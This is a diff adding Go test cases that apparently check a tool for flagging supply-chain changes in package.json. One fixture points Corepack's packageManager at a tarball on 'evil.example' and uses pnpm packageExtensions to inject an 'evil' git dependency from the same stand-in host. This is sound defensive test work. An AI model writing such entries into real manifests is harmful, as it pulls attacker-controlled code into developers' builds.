@@ -226,6 +226,28 @@ func TestNPMConstructs(t *testing.T) {
 			newSource: "b > c",
 		},
 		{
+			// Corepack fetches the package manager packageManager names (from a URL too), pnpm
+			// applies patchedDependencies' files to a package's code and adds
+			// packageExtensions' dependencies to other packages: none was listed before.
+			name: "PackageManagerAndPnpmPatches", path: "package.json",
+			base: `{"packageManager": "pnpm@9.0.0", "dependencies": {"a": "1.0.0"}}`,
+			patched: `{"packageManager": "pnpm@https://evil.example/pnpm-9.0.0.tgz#sha512.abc", "dependencies": {"a": "1.0.0"},
+				"pnpm": {"patchedDependencies": {"a@1.0.0": "patches/a.patch"},
+				"packageExtensions": {"a@1": {"dependencies": {"evil": "git+https://evil.example/e.git"}, "peerDependencies": {"b": "2.0.0"}}}}}`,
+			want: "package.json npm a@1 > b(extension) added ->2.0.0\n" +
+				"package.json npm a@1 > evil(extension) added ->(no version) <vcs git+https://evil.example/e.git>\n" +
+				"package.json npm a@1.0.0(patch) added ->(no version) <path patches/a.patch>\n" +
+				"package.json npm pnpm(package manager) changed 9.0.0->(no version) <url https://evil.example/pnpm-9.0.0.tgz#sha512.abc>\n",
+			newSource: "a@1 > evil a@1.0.0 pnpm",
+		},
+		{
+			name: "PackageManagerVersion", path: "package.json",
+			base:    `{"packageManager": "yarn@3.6.0"}`,
+			patched: `{"packageManager": "yarn@4.1.0+sha224.abc", "pnpm": {"packageExtensions": ["x"]}}`,
+			want: "package.json npm yarn(package manager) changed 3.6.0->4.1.0\n" +
+				"package.json unread 0 pnpm.packageExtensions: it is not an object of packages and dependencies\n",
+		},
+		{
 			name: "WhatIsNotReadIsUnread", path: "package.json",
 			base:    `{"dependencies": {"p": "1.0.0", "q": "2.0.0"}}`,
 			patched: `{"dependencies": {"p": "patch:p@1.0.0#./p.patch", "q": "catalog:", "r": "ftp://x.example/r.tgz", "s": ">= <= bad range"}, "devDependencies": ["x"]}`,
